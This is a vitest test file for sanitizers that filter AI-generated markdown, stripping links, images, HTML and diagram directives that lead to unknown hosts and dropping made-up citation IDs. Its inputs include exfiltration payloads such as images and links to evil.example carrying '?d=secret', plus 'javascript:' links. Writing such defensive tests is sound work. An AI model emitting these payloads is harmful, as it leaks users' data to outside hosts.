import { onlyKnown, onlyKnownPieces } from "#features/ai";
import { marked } from "marked";
import { expect, test } from "vitest";

const known = {
  urls: ["https://docs.example/s3", "https://pictures.example/zones.png"],
  citationIds: ["aws-s3-public-read", "kb-1"],
};

test.each([
  [
    "a link to a source's host",
    "See [the *docs*](https://docs.example/rds#az).",
    "See [the *docs*](https://docs.example/rds#az).",
  ],
  ["a link elsewhere", "See [the docs](https://evil.example/?q=secret) now.", "See the docs now."],
  ["a picture elsewhere", "So: ![a chart](https://evil.example/a.png?d=secret)", "So: a chart"],
  ["a picture of a source's host that is no source", "![x](https://docs.example/log.png?d=secret)", "x"],
  [
    "a picture that is a source",
    "![x](https://pictures.example/zones.png)",
    "![x](https://pictures.example/zones.png)",
  ],
  ["a picture in a link", "[![x](https://evil.example/a)](https://evil.example/b)", "[x]"],
  ["a link that runs a script", "[x](javascript:alert(1)) [y](data:text/html,z)", "x y"],
  ["a link to the page's own site", "[x](/logout) [y](//evil.example)", "x y"],
  ["a host in front of another", "[x](https://docs.example@evil.example/)", "x"],
  [
    "a link in angles",
    "[x](<https://evil.example/a>) <https://evil.example/b> <https://docs.example/c>",
    "x evil.example <https://docs.example/c>",
  ],
  [
    "a bare address",
    "Open https://evil.example/a?q=secret, or www.evil.example/b.",
    "Open evil.example, or evil.example.",
  ],
  ["a definition", "![x][1]\n\n[1]: https://evil.example/a", "\\![x]\n\n[1]\\: evil.example"],
  ["an address put together", "https:[//evil.example](x)", "https: //evil.example"],
  [
    "HTML",
    'Hi <img src="https://evil.example/a"> <b>you</b><br>2 < 3',
    'Hi &lt;img src="evil.example"> &lt;b>you&lt;/b><br>2 < 3',
  ],
])("J3: of %s only what is known is left", (_name, text, expected) => {
  expect(onlyKnown(text, known)).toBe(expected);
});

test.each([
  ["a known one", "It is public [aws-s3-public-read].", "It is public [aws-s3-public-read]."],
  ["an unknown one", "It is public [aws-s3-made-up], so close it.", "It is public, so close it."],
  ["some of several", "Yes [kb-1; kb-9].", "Yes [kb-1]."],
  ["a number", "Yes[1]. No [2]", "Yes. No"],
  [
    "none but brackets",
    "- [x] done\n- [ ] open\n\n[Note]: web[0] and a.b[1] are [very large]",
    "- [x] done\n- [ ] open\n\n[Note]\\: web[0] and a.b[1] are [very large]",
  ],
])("J13: of citations, %s", (_name, text, expected) => {
  expect(onlyKnown(text, known)).toBe(expected);
});

test.each([
  ["a block", "```hcl\na = [for s in var.l : s[0]] # <b> https://evil.example [x](y)\n```\n"],
  ["a block in a list", "1. Run:\n\n   ```sh\n   cat <<EOF\n   ```\n"],
  ["in a line", "Set `web[0]` to `a<b>` and ``x ` <y>``."],
  ["in a link", "[`aws_s3_bucket`](https://docs.example/s3)"],
])("code stays as it is: %s", (_name, text) => {
  expect(onlyKnown(text, known)).toBe(text);
});

test("J3: of a diagram what a browser would run or fetch is left out", () => {
  const diagram = [
    "```mermaid",
    '%%{init: {"themeCSS": "x"}}%%',
    "flowchart LR",
    '  A["Web<br/>tier"] --> B["<img src=\'https://evil.example/a\'>DB"]',
    '  B --> C@{ img: "//evil.example/b" }',
    '  click A "https://evil.example/c"',
    "```",
    "",
  ];
  expect(onlyKnown(diagram.join("\n"), known).split("\n")).toEqual([
    "```mermaid",
    "flowchart LR",
    '  A["Web<br/>tier"] --> B["DB"]',
    '  B --> C@{ img: "" }',
    "```",
    "",
  ]);
});

const inPieces = async (text: string, length: number): Promise<string[]> => {
  async function* cut() {
    for (let at = 0; at < text.length; at += length) yield text.slice(at, at + length);
  }
  const shown: string[] = [];
  for await (const piece of onlyKnownPieces(cut(), known)) shown.push(piece);
  return shown;
};

test("J3: of a stream never half a link comes out, and what is none comes at once", async () => {
  const shown = await inPieces("Go to [the docs](https://evil.example/?q=secret) now.", 4);
  expect(shown.join("")).toBe("Go to the docs now.");
  expect(shown.filter((piece) => /[[\]()]|evil/.test(piece))).toEqual([]);
  expect((await inPieces("Plain words come out as they come in.", 4)).length).toBeGreaterThan(5);
});

const bits = [
  ...Array.from("`~[]()<>!|:\\\n *-#a "),
  "```",
  "\n```\n",
  "~~~\n",
  "\n\n",
  "    ",
  "1. ",
  "> ",
  "](",
  "https://",
  "www.",
  "evil.example/a",
  "//evil.example",
  "<img src=//evil.example>",
  "[a](https://evil.example)",
  "![a](https://evil.example)",
  "[a](https://docs.example/b)",
  "[a]: https://evil.example",
  "![a]",
  "[1]",
  "mermaid\n",
  "\n| - | - |\n",
];

/** A text of bits that are each a beginning of something, the same for the same number. */
const hostileText = (seed: number): string => {
  let state = seed;
  const next = (below: number): number => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) & 0x7fffffff;
    return (state >> 8) % below;
  };
  return Array.from({ length: 4 + next(16) }, () => bits[next(bits.length)] ?? "").join("");
};

const leadsElsewhere = (markdown: string): string[] => {
  const html = marked.parse(markdown, { async: false });
  const targets = Array.from(html.matchAll(/<[a-z][^>]* (?:href|src)="?([^"\s>]*)/g), ([, to = ""]) => to);
  return targets.filter((to) => !to.startsWith("https://docs.example"));
};

test("J3: no text gets a link or a picture past it, whole or in pieces", async () => {
  const texts = Array.from({ length: 3_000 }, (_, seed) => hostileText(seed + 1));
  expect(texts.filter((text) => leadsElsewhere(text).length > 0).length).toBeGreaterThan(300);
  expect(texts.filter((text) => leadsElsewhere(onlyKnown(text, known)).length > 0)).toEqual([]);
  for (const [index, text] of texts.entries())
    expect((await inPieces(text, 1 + (index % 5))).join("")).toBe(onlyKnown(text, known));
});
